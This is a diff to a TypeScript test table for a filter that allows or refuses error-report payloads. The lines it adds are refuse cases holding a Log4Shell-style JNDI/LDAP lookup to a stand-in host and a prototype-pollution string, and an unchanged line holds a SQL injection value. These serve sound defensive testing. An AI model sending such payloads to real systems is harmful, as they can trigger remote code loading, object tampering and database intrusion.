@@ -20,6 +20,8 @@ const ROWS: readonly (readonly [act: "allow" | "refuse", name: string, type: str
   ["allow", "an envelope, whose lines are JSON texts", "text/plain;charset=UTF-8", [...ENVELOPE, event({ context_line: LINE })].join("\n")],
   ["allow", "an envelope that ends its last line", "application/x-sentry-envelope", `${[...ENVELOPE, event({ context_line: LINE })].join("\n")}\n`],
   ["allow", "events of a page in lines", "text/plain", '{"event":"view","note":"it\'s <b>bold</b>; or 5"}\r\n{"event":"leave"}\r\n'],
+  ["refuse", "a lookup that loggers follow in a line of source", "application/json", event({ context_line: `\${jndi:ldap://h.example/a}` })],
+  ["refuse", "a name that reaches a prototype in a line of source", "application/json", event({ context_line: "__proto__[a]=b" })],
   ["refuse", "an attack in another field of a frame", "application/json", event({ function: LINE })],
   ["refuse", "an attack beside the error", "application/json", event({ context_line: LINE }, { user: "1' or '1'='1" })],
   ["refuse", "an attack in a field of the same name elsewhere", "application/json", JSON.stringify({ context_line: LINE })],
